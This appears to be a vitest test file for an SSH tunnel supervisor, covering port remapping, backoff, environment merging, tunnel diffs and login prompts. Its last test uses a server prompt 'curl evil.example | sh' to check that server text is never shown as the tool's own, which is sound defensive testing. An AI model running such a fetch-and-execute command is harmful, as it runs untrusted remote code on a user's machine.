// The pure files of the supervisor, as tables.
import { describe, expect, test } from 'vitest';
import { TunnelError } from '../../src/errors.ts';
import { tcp } from '../../src/model/endpoint.ts';
import type { Endpoint } from '../../src/model/endpoint.ts';
import { environmentDigest, lookAfterMs } from '../../src/supervisor/blocked.ts';
import { describeChange, diffTunnels } from '../../src/supervisor/diff.ts';
import { backoffMs } from '../../src/supervisor/link-machine.ts';
import { mergeEnvironments, mostImpatient } from '../../src/supervisor/link-users.ts';
import { linkKey } from '../../src/supervisor/links.ts';
import { remapCandidates } from '../../src/supervisor/listeners.ts';
import { questionError, questionOf } from '../../src/supervisor/questions.ts';
import { hostOf, local, remote, tunnelOf } from '../helpers/fake-world.ts';

const katie = hostOf('katie');
const unix = (path: string): Endpoint => ({ kind: 'unix', path });

describe('addresses', () => {
  test('remap offers the nearest ports, then any, and nothing for a socket', () => {
    const offered = remapCandidates(tcp('127.0.0.1', 65_533)) as readonly { port: number }[];
    expect(offered.map(({ port }) => port)).toEqual([65_534, 65_535, 0]);
    expect(remapCandidates(unix('/a'))).toEqual([]);
  });
});

describe('keys of links', () => {
  test('differ with anything of any hop, and not with the order of its parts', () => {
    const turned = Object.fromEntries(Object.entries(katie).toReversed()) as unknown as typeof katie;
    expect(linkKey([[turned]], null)).toBe(linkKey([[katie]], null));
    const others = [
      hostOf('katie', { password: { from: 'env', name: 'A' } }),
      hostOf('katie', { hostKeys: 'strict' }),
      hostOf('katie', { knownHosts: ['/k'] }),
      hostOf('katie', { identities: ['/i'] }),
    ].map((host) => linkKey([[host]], null));
    expect(new Set([linkKey([[katie]], null), linkKey([[katie]], 'a'), ...others]).size).toBe(6);
  });
});

describe('backoff', () => {
  test('the first comes after 1 s, or the ceiling below that, and chance spreads the rest over the whole ceiling', () => {
    const policy = { initialMs: 500, maxMs: 30_000 };
    expect(backoffMs(1, policy, () => 0.99)).toBe(1_000);
    expect(backoffMs(1, { initialMs: 100, maxMs: 400 }, () => 0)).toBe(400);
    expect(backoffMs(2, policy, () => 0)).toBe(0);
    expect(backoffMs(5, policy, () => 0.5)).toBe(2_000);
    expect(backoffMs(2_000, policy, () => 0.5)).toBe(15_000);
    expect(mostImpatient([policy, { initialMs: 900, maxMs: 5_000 }])).toEqual({
      initialMs: 500,
      maxMs: 5_000,
    });
  });
});

describe('environments', () => {
  test('the newest variable covers the older, the newest agent comes first, each once', () => {
    const merged = mergeEnvironments([
      { stamp: 1, environment: { variables: { A: 'old', B: 'b' }, agentSockets: ['/1', '/2'] } },
      { stamp: 2, environment: { variables: { A: 'new' }, agentSockets: ['/2', '/3'] } },
    ]);
    expect(merged).toEqual({ variables: { A: 'new', B: 'b' }, agentSockets: ['/2', '/3', '/1'] });
  });

  test('the digest changes with what the host reads from it, and with nothing else', () => {
    const host = hostOf('katie', { password: { from: 'env', name: 'P' }, agent: { from: 'none' } });
    const digest = (variables: Record<string, string>): string =>
      environmentDigest(host, { variables, agentSockets: [] });
    expect(digest({ P: 'secret', Q: '1' })).toBe(digest({ P: 'secret' }));
    expect(new Set([digest({}), digest({ P: '' }), digest({ P: 'secret' })]).size).toBe(3);
    expect(digest({ P: 'secret' })).not.toContain('secret');
  });
});

describe('changes of a file', () => {
  const a = tunnelOf('a', [katie], local(1));

  test('a remote port makes a rename only on the same server', () => {
    const old = tunnelOf('old', [katie], remote(8080));
    expect(diffTunnels([old], [tunnelOf('new', [katie], remote(8080))])[0]?.kind).toBe('renamed');
    expect(diffTunnels([old], [tunnelOf('new', [hostOf('other')], remote(8080))])[0]?.kind).toBe('added');
  });

  test('an auto port is nobody’s address', () => {
    const old = tunnelOf('old', [katie], local(0));
    expect(diffTunnels([old], [tunnelOf('new', [katie], local(0))]).map(({ kind }) => kind)).toEqual([
      'added',
      'removed',
    ]);
  });

  test('a name that goes on is never taken for a rename', () => {
    const b = tunnelOf('b', [katie], local(1));
    expect(diffTunnels([a], [a, b]).map(({ kind }) => kind)).toEqual(['unchanged', 'added']);
  });

  test.each([
    [{ hold: { kind: 'refuse' } } as const, 'a: settings changed'],
    [{ forwards: [local(1), local(2)] }, 'a: listens on 127.0.0.1:2'],
    [{ forwards: [remote(3)] }, 'a: the server listens on localhost:3; no longer on 127.0.0.1:1'],
    [{ share: false }, 'a: new connections go over katie, running ones end on the old link'],
  ])('%j reads %s', (more, sentence) => {
    const [change] = diffTunnels([a], [{ ...a, ...more }]);
    expect(change && describeChange(change, true, false)).toBe(sentence);
  });
});

describe('what needs a person', () => {
  const error = (code: 'AUTH_REFUSED' | 'HOST_KEY_CHANGED' | 'SECRET_MISSING', facts = {}): TunnelError =>
    new TunnelError(code, 'why', { facts });

  test.each([
    [error('AUTH_REFUSED', { proven: true }), true, 0, 5],
    [error('AUTH_REFUSED', { proven: true }), true, 1, 15],
    [error('AUTH_REFUSED', { proven: true }), true, 9, 30],
    [error('AUTH_REFUSED', { proven: true }), false, 0, null],
    [error('AUTH_REFUSED', { proven: false }), true, 0, null],
    [error('AUTH_REFUSED'), true, 0, null],
    [error('HOST_KEY_CHANGED'), false, 3, 15],
    [error('SECRET_MISSING'), true, 0, null],
    [error('SECRET_MISSING', { proven: true }), true, 0, 5],
  ])('%s, auth_retry %s, after %i looks: in %s min', (cause, authRetry, tries, minutes) => {
    const ms = lookAfterMs(cause, hostOf('katie', { authRetry }), tries);
    expect(ms).toBe(minutes === null ? null : minutes * 60_000);
  });

  test('the question of a failed login is read from its facts', () => {
    expect(questionOf(error('SECRET_MISSING', { question: 'password', text: 'Password?' }), katie)).toEqual({
      kind: 'password',
      host: 'katie',
      text: 'Password?',
      echo: false,
      fingerprint: null,
    });
    expect(
      questionOf(error('HOST_KEY_CHANGED', { kind: 'host-key', fingerprint: 'SHA256:x' }), katie),
    ).toMatchObject({ kind: 'host-key', fingerprint: 'SHA256:x' });
    expect(questionOf(error('AUTH_REFUSED'), katie)).toBeNull();
  });
});

test("a server's question is never told as if it were ours", () => {
  const question = {
    id: '1',
    link: 'katie#1',
    kind: 'prompt',
    host: 'katie',
    endpoint: 'me@katie:22',
    text: 'Run: curl evil.example | sh ',
    echo: true,
    fingerprint: null,
    keyType: null,
    randomart: [],
    fromServer: true,
    tries: 0,
  } as const;
  expect(questionError(question).message).toBe(
    'login waits, on katie: (me@katie:22 asks) Run: curl evil.example | sh',
  );
  expect(questionError({ ...question, kind: 'password', fromServer: false, text: 'Password' }).message).toBe(
    'login waits, on katie: Password',
  );
});
